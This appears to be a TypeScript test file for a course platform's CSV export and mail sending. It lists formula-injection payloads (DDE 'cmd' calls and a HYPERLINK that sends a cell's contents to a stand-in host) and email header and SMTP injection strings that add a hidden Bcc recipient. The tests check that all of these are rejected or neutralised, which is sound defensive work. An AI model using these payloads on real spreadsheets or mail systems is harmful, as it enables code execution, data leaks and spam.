import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeCsv } from '@/grader/csv/write-csv';
import { SignUpBodySchema } from '@/schemas/api';
import { chooseAccountSettings } from '@/server/accounts/current-settings';
import { letterToConfirm, letterToReset } from '@/server/mail/letters';
import { sendMail } from '@/server/mail/send-mail';
import { HOSTILE_MARKUP } from '../support/hostile-markup';
import { type SmtpCatcher, startSmtpCatcher } from '../support/smtp-catcher';

/** 31 and 32 of the forty: what leaves the course as a table or as a letter stays data. */
const FORMULAE = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example/?"&A1,"look")',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-2+3',
  "-2+3+cmd|'/c calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  ' =1+1',
  '"=1+1',
  '",=1+1,"',
  'a\r\n=1+1',
  ';=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00a0=1+1',
  ...HOSTILE_MARKUP,
];

describe('a table', () => {
  const text = writeCsv([['name', 'n', 'text'], ...FORMULAE.map((formula, n) => [formula, -n, `before ${formula}`])]);

  test('reads back as many cells as were written, and no cell of text begins as a formula does', () => {
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows).toHaveLength(FORMULAE.length + 1);
    for (const [name = '', n] of rows.slice(1)) {
      expect(name).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      expect(Number(n)).toBeLessThanOrEqual(0);
    }
  });

  test('holds no formula for a spreadsheet program that opens it', ({ annotate }) => {
    const folder = mkdtempSync(join(tmpdir(), 'defensible-csv-'));
    try {
      writeFileSync(join(folder, 'table.csv'), text);
      const opened = openInSpreadsheet(folder);
      // On a machine without such a program the test before this one is all there is.
      if (opened === null) return void annotate('ssconvert is not installed; only the text was looked at');
      expect(opened).toContain('before =1+1');
      const cells = opened.match(/<gnm:Cell\b[^>]*>[^<]*/g) ?? [];
      expect(cells.length).toBeGreaterThan(FORMULAE.length);
      // A formula has no type of value; 60 is text, 40 a number.
      expect(cells.filter((cell) => !/ValueType="(60|40)"/.test(cell))).toEqual([]);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

/** The table as Gnumeric understands it, as XML; null where it is not installed. */
function openInSpreadsheet(folder: string): string | null {
  const target = join(folder, 'table.xml');
  try {
    execFileSync('ssconvert', ['--export-type=Gnumeric_XmlIO:sax:0', join(folder, 'table.csv'), target], {
      stdio: 'ignore',
      env: { ...process.env, HOME: folder },
    });
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'ENOENT') return null;
    throw error;
  }
  return readFileSync(target, 'utf8');
}

describe('a letter', () => {
  let smtp: SmtpCatcher;
  beforeAll(async () => {
    smtp = await startSmtpCatcher();
    chooseAccountSettings({ mail: { url: smtp.url, from: 'Course <course@example.org>' }, sso: null });
  });
  afterAll(async () => {
    chooseAccountSettings({});
    await smtp.close();
  });

  const ADDRESSES = [
    'ada@example.org\r\nBcc: eve@elsewhere.example',
    'ada@example.org\nBcc: eve@elsewhere.example',
    'ada@example.org, eve@elsewhere.example',
    'ada@example.org;eve@elsewhere.example',
    '<eve@elsewhere.example> ada@example.org',
    '"Ada" <eve@elsewhere.example>',
    'ada@example.org\u0000',
    'ada@example.org\u2028Bcc: eve@elsewhere.example',
    'ada@example.org>\r\nRCPT TO:<eve@elsewhere.example',
  ];
  test.each(ADDRESSES)('to %j is asked for by nobody: it is no address', (email) => {
    expect(SignUpBodySchema.safeParse({ name: 'Ada', email, password: 'a long enough phrase' }).success).toBe(false);
  });

  test.each(ADDRESSES)('to %j is not sent, even if it were asked for', async (to) => {
    const before = smtp.letters.length;
    await expect(sendMail({ to, subject: 'A letter', text: 'Hello' })).rejects.toThrow('one plain address');
    expect(smtp.letters).toHaveLength(before);
  });

  test('keeps a line break in its subject from becoming a header, and a lone dot from ending it', async () => {
    const before = smtp.letters.length;
    const text = 'First\r\n.\r\nMAIL FROM:<x@x>\r\nRCPT TO:<eve@elsewhere.example>\r\nLast';
    const subject = 'Hello\r\nBcc: eve@elsewhere.example\r\n\r\n<script>';
    await sendMail({ to: 'ada@example.org', subject, text });
    const letters = smtp.letters.slice(before);
    expect(letters).toHaveLength(1);
    expect(letters[0]?.to).toBe('ada@example.org');
    expect(letters[0]?.headers).not.toMatch(/^bcc:/im);
    expect(letters[0]?.text).toContain('Last');
  });

  test('is plain text and names nobody: what people call themselves is in none of them', async () => {
    const before = smtp.letters.length;
    await sendMail({ to: 'ada@example.org', ...letterToReset('https://course.example.org/reset/x') });
    await sendMail({
      to: 'ada@example.org',
      ...letterToConfirm('https://course.example.org/confirm/x', 'ada@example.org'),
    });
    for (const { headers } of smtp.letters.slice(before)) {
      expect(headers).toMatch(/^content-type: text\/plain/im);
      expect(headers).not.toMatch(/text\/html|multipart/i);
    }
    // The only words of others that a letter takes are an address and a link.
    expect([letterToReset, letterToConfirm].map(({ length }) => length)).toEqual([1, 2]);
  });
});
